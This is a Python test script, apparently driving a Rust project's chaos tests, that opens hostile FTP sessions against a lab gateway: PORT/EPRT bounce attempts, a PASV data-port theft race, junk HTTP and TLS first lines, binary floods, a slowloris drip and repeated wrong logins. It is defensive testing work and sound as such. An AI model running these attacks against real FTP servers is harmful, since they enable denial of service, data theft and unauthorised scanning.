#!/usr/bin/env python3
"""Hostile sessions for tests/chaos.rs, run in the lab's client namespace
while lab/chaos_load.py keeps 200 sessions busy. Each subcommand opens its
sessions from its own --source address, so that the test can pick the
gateway's records of each attack by the client address; each prints one
JSON report (the Rust test judges it).

  bounce     PORT and EPRT naming a third host, PORT to a privileged port of
             the client itself; then NOOP (the session goes on)
  theft      PASV; a thief from --thief connects to the announced port first;
             then the real client's RETR of --path, whose bytes are hashed
  junk-http  an HTTP request as the first line
  junk-bin   a TLS ClientHello's first bytes as the first line
  flood      log in, then --count binary lines (NUL inside) in a row
  slowloris  one byte a second of "USER anonymous", never a line end, until
             the gateway answers or --max-seconds pass
  third227   log in to --server (lab/hostile_server.py, whose 227 names a
             third host), PASV, then NOOP
  logins     --count sessions with a wrong user (530), then one more session:
             its first reply

Bounded: every socket has a timeout, every loop a count or a deadline.
"""
import argparse
import hashlib
import json
import re
import socket
import sys
import time

# The thief's attempt, as the single-session attack client makes it.
from hostile_client import steal


def line(f):
    return f.readline(8192).decode("latin-1").rstrip("\r\n")


def reply(f):
    """One whole (possibly multi-line) reply: its last line."""
    first = line(f)
    if len(first) >= 4 and first[3] == "-":
        code = first[:3]
        last = first
        for _ in range(1000):
            last = line(f)
            if last.startswith(code + " ") or not last:
                break
        return last
    return first


def connect(args, timeout=10):
    return socket.create_connection((args.server, 21), timeout=timeout, source_address=(args.source, 0))


def session(args):
    s = connect(args)
    f = s.makefile("rb")
    greeting = reply(f)
    if not greeting.startswith("220"):
        raise RuntimeError("greeting: %r" % greeting)

    def cmd(text):
        s.sendall(text.encode("latin-1") + b"\r\n")
        return reply(f)

    r = cmd("USER anonymous")
    if r.startswith("331"):
        r = cmd("PASS lab@")
    if not r.startswith("230"):
        raise RuntimeError("login: %r" % r)
    return s, f, cmd


def read_until_closed(s, seconds):
    """Everything the peer sends until it closes (or `seconds` pass)."""
    got = b""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        s.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            chunk = s.recv(4096)
        except socket.timeout:
            return got, False
        except ConnectionResetError:
            return got, True
        if not chunk:
            return got, True
        got += chunk
    return got, False


def bounce(args):
    s, f, cmd = session(args)
    third = "203,0,113,5,200,10"
    own = args.source.replace(".", ",")
    out = {
        "port_third_host": cmd("PORT " + third),
        "eprt_third_host": cmd("EPRT |1|203.0.113.5|51210|"),
        "port_privileged": cmd("PORT %s,0,22" % own),
        "noop_after": cmd("NOOP"),
    }
    cmd("QUIT")
    return out


def theft(args):
    s, f, cmd = session(args)
    cmd("TYPE I")
    r = cmd("PASV")
    nums = [int(x) for x in re.search(r"(\d+),(\d+),(\d+),(\d+),(\d+),(\d+)", r).groups()]
    host, port = ".".join(map(str, nums[:4])), nums[4] * 256 + nums[5]
    out = {"pasv": r}
    out.update(steal(args.thief, host, port))
    d = socket.create_connection((host, port), timeout=10, source_address=(args.source, 0))
    out["retr_preliminary"] = cmd("RETR " + args.path)
    h = hashlib.sha256()
    n = 0
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        chunk = d.recv(65536)
        if not chunk:
            break
        h.update(chunk)
        n += len(chunk)
    d.close()
    out["retr_final"] = reply(f)
    out["bytes"] = n
    out["sha256"] = h.hexdigest()
    out["noop_after"] = cmd("NOOP")
    cmd("QUIT")
    return out


def junk(args, payload):
    s = connect(args)
    f = s.makefile("rb")
    greeting = reply(f)
    s.sendall(payload)
    got, closed = read_until_closed(s, 10)
    return {"greeting": greeting, "reply": got.decode("latin-1"), "closed": closed}


def flood(args):
    s, f, cmd = session(args)
    replies = []
    for i in range(args.count):
        try:
            s.sendall(b"\x01\x02\x00\x80junk %d\xfe\xfd\r\n" % i)
            r = reply(f)
        except OSError as e:
            r = "error: %s" % e
        replies.append(r)
        if not r or r.startswith("421") or r.startswith("error"):
            break
    got, closed = read_until_closed(s, 5)
    return {"replies": replies, "after": got.decode("latin-1"), "closed": closed}


def slowloris(args):
    s = connect(args)
    f = s.makefile("rb")
    greeting = reply(f)
    t0 = time.monotonic()
    sent = 0
    payload = b"USER anonymous" * 100
    got, closed = b"", False
    while time.monotonic() - t0 < args.max_seconds and sent < len(payload):
        try:
            s.sendall(payload[sent : sent + 1])
        except OSError:
            closed = True
            break
        sent += 1
        # a second between bytes, watching for the gateway's answer
        got, closed = read_until_closed(s, 1.0)
        if got or closed:
            if not closed:
                more, closed = read_until_closed(s, 5)
                got += more
            break
    return {
        "greeting": greeting,
        "reply": got.decode("latin-1"),
        "closed": closed,
        "bytes_sent": sent,
        "seconds": round(time.monotonic() - t0, 1),
    }


def third227(args):
    s, f, cmd = session(args)
    out = {"type": cmd("TYPE I"), "pasv": cmd("PASV"), "noop_after": cmd("NOOP")}
    cmd("QUIT")
    return out


def logins(args):
    replies = []
    for _ in range(args.count):
        s = connect(args)
        f = s.makefile("rb")
        greeting = reply(f)
        if not greeting.startswith("220"):
            replies.append(greeting)
            s.close()
            break
        s.sendall(b"USER mallory\r\n")
        r = reply(f)
        if r.startswith("331"):
            s.sendall(b"PASS wrong\r\n")
            r = reply(f)
        replies.append(r)
        s.close()
    s = connect(args)
    after = reply(s.makefile("rb"))
    s.close()
    return {"replies": replies, "after": after}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("what", choices=["bounce", "theft", "junk-http", "junk-bin", "flood", "slowloris", "third227", "logins"])
    p.add_argument("--server", default="198.51.100.10")
    p.add_argument("--source", required=True, help="client address of this attack's sessions")
    p.add_argument("--thief", default="192.0.2.20")
    p.add_argument("--path", default="/pub/loot.bin")
    p.add_argument("--count", type=int, default=30)
    p.add_argument("--max-seconds", type=float, default=40.0)
    args = p.parse_args()
    t0 = time.monotonic()
    what = args.what
    if what == "junk-http":
        out = junk(args, b"GET / HTTP/1.1\r\nHost: 198.51.100.10:21\r\nUser-Agent: lab\r\n\r\n")
    elif what == "junk-bin":
        # a TLS record header (handshake, TLS 1.0), then a ClientHello's start
        out = junk(args, b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(range(32)) + b"\r\n")
    else:
        out = {"bounce": bounce, "theft": theft, "flood": flood, "slowloris": slowloris,
               "third227": third227, "logins": logins}[what](args)
    out["what"] = what
    out["elapsed"] = round(time.monotonic() - t0, 1)
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
